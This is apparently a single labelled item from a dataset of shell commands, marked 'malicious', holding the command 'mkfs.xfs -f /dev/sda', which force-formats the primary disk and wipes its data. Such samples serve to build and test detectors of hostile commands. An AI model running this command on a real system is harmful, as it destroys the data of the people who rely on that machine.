# label: malicious
mkfs.xfs -f /dev/sda
